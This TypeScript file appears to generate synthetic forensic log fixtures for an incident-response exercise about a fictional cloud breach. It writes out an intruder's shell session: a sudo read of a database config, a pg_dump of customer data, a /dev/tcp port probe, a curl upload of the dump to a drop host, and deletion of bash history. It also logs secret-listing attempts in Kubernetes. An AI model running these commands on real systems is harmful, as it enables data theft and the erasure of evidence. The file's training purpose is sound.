/** What the machines, the databases and the cluster wrote down themselves. */
import { gzipSync } from 'node:zlib';
import { ADDRESS, HOME, HOST, PROD, ROLE } from './cast.ts';
import { ASSUMED, issuedKey } from './alarms.ts';
import { CLUSTER, DOMAIN, MORE, NET, SHELL } from './estate.ts';
import { at } from './night.ts';
import { guid, hexText, randomStream } from './random.ts';
import {
  cliJson,
  folder,
  isoMicros,
  isoMillis,
  jsonLines,
  lines,
  plain,
  zipped,
  type SampleFile,
} from './sample-file.ts';
import { LEAK } from './web.ts';
import { isoSeconds, type JsonObject } from './trail.ts';
import type { World } from './world.ts';

const random = randomStream('inside');
const SERVER = `ip-${SHELL.address.replaceAll('.', '-')}`;
const KUBECTL = 'kubectl/v1.30.2 (linux/amd64) kubernetes/39683505';

/** What the intruder typed on the order server, as Session Manager streamed it. */
const TYPED: readonly (readonly [string, readonly string[]])[] = [
  ['18 01:28:34', ['sh-5.2$ id', 'uid=1001(ssm-user) gid=1001(ssm-user) groups=1001(ssm-user)']],
  [
    '18 01:28:51',
    ['sh-5.2$ sudo cat /etc/orders/db.conf', `host=${DOMAIN.ordersDb}`, 'user=orders_app'],
  ],
  [
    '18 01:29:58',
    [`sh-5.2$ pg_dump -h ${DOMAIN.ordersDb} -U orders_app -t customers orders | gzip > /tmp/.c.gz`],
  ],
  [
    '18 01:31:44',
    [
      'sh-5.2$ ls -l /tmp/.c.gz',
      '-rw-r--r--. 1 ssm-user ssm-user 48210331 Sep 18 01:31 /tmp/.c.gz',
    ],
  ],
  ['18 01:32:15', [`sh-5.2$ mysql -h ${DOMAIN.trackingDb} -u tracking_ro -p`, 'Enter password:']],
  [
    '18 01:33:01',
    ['sh-5.2$ for p in 5439 22 3389; do timeout 2 bash -c "echo > /dev/tcp/10.20.40.80/$p"; done'],
  ],
  ['18 01:35:20', [`sh-5.2$ curl -s -T /tmp/.c.gz https://${DOMAIN.drop}/u/c.gz`]],
  ['18 01:35:58', ['sh-5.2$ rm -f /tmp/.c.gz ~/.bash_history; exit', 'exit']],
];

function shell(): SampleFile {
  return plain(
    `harborline-ir-workspace/ssm/${SHELL.id}.jsonl`,
    jsonLines(
      TYPED.map(([when, sessionData]) => ({
        eventVersion: '1.0',
        eventTime: isoSeconds(at(when)),
        awsRegion: HOME,
        target: { id: SHELL.instance },
        userIdentity: { arn: `arn:aws:iam::${PROD}:user/svc-backup` },
        runAsUser: 'ssm-user',
        sessionId: SHELL.id,
        sessionData,
      })),
    ),
  );
}

/** The journal of the same server, and the old-style log of the bastion. */
function hosts(): SampleFile[] {
  const boot = hexText(random, 32);
  const machine = hexText(random, 32);
  let line = 0;
  const entry = (
    when: number,
    identifier: string,
    unit: string,
    message: string,
    pid: number,
  ): JsonObject => ({
    __CURSOR: `s=${hexText(random, 8)};i=${(++line).toString(16)};b=${boot}`,
    __REALTIME_TIMESTAMP: String(when * 1000 + 417),
    __MONOTONIC_TIMESTAMP: String((when - at('01 05:40:30')) * 1000),
    _BOOT_ID: boot,
    _MACHINE_ID: machine,
    _HOSTNAME: SERVER,
    PRIORITY: '6',
    SYSLOG_FACILITY: '10',
    SYSLOG_IDENTIFIER: identifier,
    _COMM: identifier,
    _PID: String(pid),
    _UID: identifier === 'sudo' ? '1001' : '0',
    _TRANSPORT: 'syslog',
    _SYSTEMD_UNIT: unit,
    MESSAGE: message,
  });
  const journal: JsonObject[] = [];
  for (let when = at('17 20:00:00'); when < at('18 01:00:00'); when += random.int(30, 60) * 60_000)
    journal.push(
      entry(
        when,
        'CROND',
        'crond.service',
        '(root) CMD (/usr/local/bin/rotate-orders)',
        random.int(2000, 9000),
      ),
    );
  journal.push(
    entry(
      at('18 01:28:31'),
      'amazon-ssm-agent',
      'amazon-ssm-agent.service',
      `INFO [ssm-session-worker] [${SHELL.id}] starting session`,
      1843,
    ),
    entry(
      at('18 01:28:51'),
      'sudo',
      `session-3.scope`,
      'ssm-user : TTY=pts/0 ; PWD=/usr/bin ; USER=root ; COMMAND=/usr/bin/cat /etc/orders/db.conf',
      20117,
    ),
    entry(
      at('18 01:36:03'),
      'amazon-ssm-agent',
      'amazon-ssm-agent.service',
      `INFO [ssm-session-worker] [${SHELL.id}] session ended`,
      1843,
    ),
  );
  const secure: string[] = [];
  const say = (text: string, host: string, what: string): void => {
    secure.push(`Sep ${text} ${host} ${what}`);
  };
  for (const day of [14, 15, 16, 17])
    say(
      `${String(day)} 08:1${String(day % 10)}:07`,
      'bastion',
      `sshd[${String(3000 + day)}]: Accepted publickey for lena from ${ADDRESS.officeLena} port 5${String(day)}12 ssh2: ED25519 SHA256:${hexText(random, 43)}`,
    );
  say(
    '17 19:40:21',
    'bastion',
    `sshd[4711]: Connection closed by ${MORE.scanner} port 40112 [preauth]`,
  );
  say('17 19:40:58', 'bastion', `sshd[4712]: Invalid user admin from ${MORE.scanner} port 40133`);
  say(
    '17 19:41:10',
    'bastion',
    `sshd[4713]: Failed password for invalid user admin from ${MORE.scanner} port 40140 ssh2`,
  );
  say(
    '17 19:41:16',
    'bastion',
    `sshd[4714]: Failed password for ec2-user from ${MORE.scanner} port 40144 ssh2`,
  );
  say(
    '17 19:41:22',
    'bastion',
    `sshd[4715]: Failed password for root from ${ADDRESS.attacker} port 51020 ssh2`,
  );
  return [
    plain(`harborline-ir-workspace/hosts/${SERVER}/journal.json`, jsonLines(journal)),
    plain(`harborline-ir-workspace/hosts/${SERVER}/audit.log`, lines(audit())),
    zipped('harborline-ir-workspace/hosts/bastion/secure-20260918.gz', lines(secure)),
  ];
}

/** The kernel's own word on the order server: each command that ran as root. */
function audit(): string[] {
  const ran = (when: number, serial: number, args: readonly string[], path: string): string[] => {
    const head = `msg=audit(${String(Math.floor(when / 1000))}.417:${String(serial)}):`;
    const argv = args.map((arg, i) => `a${String(i)}="${arg}"`).join(' ');
    return [
      `type=SYSCALL ${head} arch=c000003e syscall=59 success=yes exit=0 a0=55d0 ppid=20117 pid=${String(20_000 + serial)} auid=1001 uid=0 gid=0 euid=0 tty=pts0 ses=3 comm="${args[0] ?? ''}" exe="/usr/bin/${args[0] ?? ''}" key="root-commands"`,
      `type=EXECVE ${head} argc=${String(args.length)} ${argv}`,
      `type=PATH ${head} item=0 name="${path}" inode=7 nametype=NORMAL`,
    ];
  };
  return [
    ...ran(at('17 20:10:00'), 811, ['cat', '/var/lib/orders/rotate'], '/var/lib/orders/rotate'),
    ...ran(at('18 01:28:51'), 902, ['cat', '/etc/orders/db.conf'], '/etc/orders/db.conf'),
  ];
}

/** Audit of the cluster: the role that deploys looks at more than it deploys. */
function cluster(world: World): SampleFile[] {
  const key = issuedKey(world, ASSUMED.deploy);
  const event = (
    when: number,
    more: {
      readonly verb: string;
      readonly uri: string;
      readonly ref: JsonObject;
      readonly code: number;
      readonly mine?: boolean;
    },
  ): JsonObject => ({
    kind: 'Event',
    apiVersion: 'audit.k8s.io/v1',
    level: 'Metadata',
    auditID: guid(random),
    stage: 'ResponseComplete',
    requestURI: more.uri,
    verb: more.verb,
    user:
      more.mine === true
        ? {
            username: 'system:serviceaccount:orders:orders-api',
            uid: guid(random),
            groups: ['system:serviceaccounts'],
          }
        : {
            username: 'deploy-pipeline',
            uid: `aws-iam-authenticator:${PROD}:${ROLE.deploy.id}`,
            groups: ['deployers', 'system:authenticated'],
            extra: {
              accessKeyId: [key],
              arn: [`arn:aws:sts::${PROD}:assumed-role/deploy-pipeline/gh-actions-9001`],
              canonicalArn: [`arn:aws:iam::${PROD}:role/deploy-pipeline`],
              sessionName: ['gh-actions-9001'],
            },
          },
    sourceIPs: [more.mine === true ? SHELL.address : ADDRESS.attacker],
    userAgent: more.mine === true ? 'orders-api/4.2' : KUBECTL,
    objectRef: { apiVersion: 'v1', ...more.ref },
    responseStatus: {
      code: more.code,
      ...(more.code === 403 ? { status: 'Failure', reason: 'Forbidden' } : {}),
    },
    requestReceivedTimestamp: isoMicros(when),
    stageTimestamp: isoMicros(when + 6),
    annotations: {
      'authorization.k8s.io/decision': more.code === 403 ? 'forbid' : 'allow',
      'authorization.k8s.io/reason': '',
    },
  });
  const events: JsonObject[] = [];
  for (let when = at('17 21:00:00'); when < at('18 01:00:00'); when += random.int(20, 50) * 60_000)
    events.push(
      event(when, {
        verb: 'get',
        uri: '/api/v1/namespaces/orders/configmaps/orders',
        ref: { resource: 'configmaps', namespace: 'orders', name: 'orders' },
        code: 200,
        mine: true,
      }),
    );
  events.push(
    event(at('17 23:37:02'), {
      verb: 'list',
      uri: '/api/v1/namespaces',
      ref: { resource: 'namespaces' },
      code: 200,
    }),
    event(at('17 23:37:40'), {
      verb: 'list',
      uri: '/api/v1/secrets',
      ref: { resource: 'secrets' },
      code: 403,
    }),
    event(at('17 23:38:11'), {
      verb: 'list',
      uri: '/api/v1/namespaces/orders/secrets',
      ref: { resource: 'secrets', namespace: 'orders' },
      code: 200,
    }),
    event(at('17 23:38:29'), {
      verb: 'get',
      uri: '/api/v1/namespaces/orders/secrets/payment-gateway',
      ref: { resource: 'secrets', namespace: 'orders', name: 'payment-gateway' },
      code: 200,
    }),
    event(at('17 23:39:50'), {
      verb: 'create',
      uri: '/api/v1/namespaces/orders/pods/orders-api-0/exec?command=sh',
      ref: { resource: 'pods', namespace: 'orders', name: 'orders-api-0', subresource: 'exec' },
      code: 403,
    }),
    event(at('17 23:40:33'), {
      verb: 'create',
      uri: '/apis/rbac.authorization.k8s.io/v1/clusterrolebindings',
      ref: { resource: 'clusterrolebindings', name: 'sp', apiGroup: 'rbac.authorization.k8s.io' },
      code: 403,
    }),
  );
  const granted = (when: number, arn: string, user: string): string =>
    `time="${isoSeconds(when)}" level=info msg="access granted" arn="${arn}" client="127.0.0.1:43586" groups="[deployers]" method=POST path=/authenticate uid="aws-iam-authenticator:${PROD}:${ROLE.deploy.id}" username=${user}`;
  return [
    plain(`harborline-ir-workspace/eks/${CLUSTER}-audit.jsonl`, jsonLines(events)),
    // The authenticator says which AWS role stands behind a user of the cluster.
    plain(
      `harborline-ir-workspace/eks/aws/eks/${CLUSTER}/cluster/authenticator-2f0c.log`,
      lines([
        granted(at('17 14:02:11'), `arn:aws:iam::${PROD}:role/deploy-pipeline`, 'deploy-pipeline'),
        granted(at('17 23:37:01'), `arn:aws:iam::${PROD}:role/deploy-pipeline`, 'deploy-pipeline'),
        `time="${isoSeconds(at('17 23:41:02'))}" level=warning msg="access denied" arn="arn:aws:iam::${PROD}:user/svc-backup" client="127.0.0.1:43590" error="ARN is not mapped" method=POST path=/authenticate`,
      ]),
    ),
  ];
}

/** People who come in through the VPN, and one who does not. */
function vpn(): SampleFile {
  const attempt = (when: number, ip: string, name: string, failure?: string): JsonObject => ({
    'connection-log-type': 'connection-attempt',
    'connection-attempt-status': failure === undefined ? 'successful' : 'failed',
    'connection-reset-status': 'NA',
    'connection-attempt-failure-reason': failure ?? 'NA',
    'connection-id': `cvpn-connection-0${hexText(random, 16)}`,
    'client-vpn-endpoint-id': NET.vpnEndpoint,
    'transport-protocol': 'udp',
    'connection-start-time': isoSeconds(when).replace('T', ' ').slice(0, 19),
    'connection-last-update-time': isoSeconds(when).replace('T', ' ').slice(0, 19),
    'client-ip': failure === undefined ? '10.20.250.2' : 'NA',
    'common-name': name,
    'device-type': failure === undefined ? 'mac' : 'linux',
    'device-ip': ip,
    port: String(random.int(40_000, 60_000)),
    'ingress-bytes': '0',
    'egress-bytes': '0',
    'ingress-packets': '0',
    'egress-packets': '0',
    'connection-end-time': 'NA',
    'connection-duration-seconds': '0',
  });
  return plain(
    'harborline-ir-workspace/client-vpn/connections.jsonl',
    jsonLines([
      ...[14, 15, 16, 17].flatMap((day) => [
        attempt(at(`${String(day)} 07:58:1${String(day % 10)}`), ADDRESS.officeLena, 'lena.vogt'),
        attempt(at(`${String(day)} 08:20:4${String(day % 10)}`), ADDRESS.officeAmara, 'amara.osei'),
      ]),
      attempt(at('17 23:21:09'), ADDRESS.attackerBrowser, 'svc-backup', 'authentication-failed'),
      attempt(at('17 23:21:40'), ADDRESS.attackerBrowser, 'svc-backup', 'authentication-failed'),
    ]),
  );
}

/** Application logs as `filter-log-events` prints them, and the bastion's log as a subscription delivered it. */
function cloudWatch(): SampleFile[] {
  const stream = SHELL.instance;
  const app = (
    [
      ['17 20:31:18', `GET ${LEAK} 200 1204 ${MORE.scanner}`],
      ['17 22:12:40', `GET ${LEAK} 200 1204 ${ADDRESS.attacker}`],
      ['18 01:30:02', 'slow query: 91 s, COPY customers'],
      ['18 06:58:31', 'health check ok'],
    ] as const
  ).map(([when, message], i) => ({
    logStreamName: stream,
    timestamp: at(when) + 433,
    message: `${isoMillis(at(when) + 433)} orders ${message}`,
    ingestionTime: at(when) + 2011,
    eventId: `3982${String(i).padStart(4, '0')}${'0'.repeat(48)}`,
  }));
  const payload = {
    messageType: 'DATA_MESSAGE',
    owner: PROD,
    logGroup: '/harborline/bastion/secure',
    logStream: HOST.bastion.instance,
    subscriptionFilters: ['to-archive'],
    logEvents: (
      [
        [
          '17 22:31:02',
          `sshd[5101]: Connection closed by ${ADDRESS.attacker} port 51400 [preauth]`,
        ],
        ['17 22:31:40', `sshd[5102]: Invalid user deploy from ${ADDRESS.attacker} port 51422`],
        [
          '18 08:16:22',
          `sshd[5240]: Accepted publickey for lena from ${ADDRESS.officeLena} port 51812 ssh2: ED25519 SHA256:${hexText(random, 43)}`,
        ],
      ] as const
    ).map(([when, text], i) => ({
      id: `3990${String(i).padStart(4, '0')}${'0'.repeat(48)}`,
      timestamp: at(when),
      message: `Sep ${when} bastion ${text}`,
    })),
  };
  return [
    plain(
      'harborline-ir-workspace/cloudwatch/filter-log-events-orders.json',
      cliJson({ events: app, searchedLogStreams: [] }),
    ),
    // A subscription delivers gzip; Firehose packed it once more.
    (() => {
      const file = zipped(
        `harborline-log-archive/${folder(at('18 09:00:00'))}/09/bastion-1-2026-09-18-09-00-00-${guid(random)}`,
        JSON.stringify(payload),
      );
      return { ...file, bytes: gzipSync(file.bytes, { level: 9 }) };
    })(),
  ];
}

/** Files from inside. */
export function insideFiles(world: World): SampleFile[] {
  return [shell(), ...hosts(), ...cluster(world), vpn(), ...cloudWatch()];
}
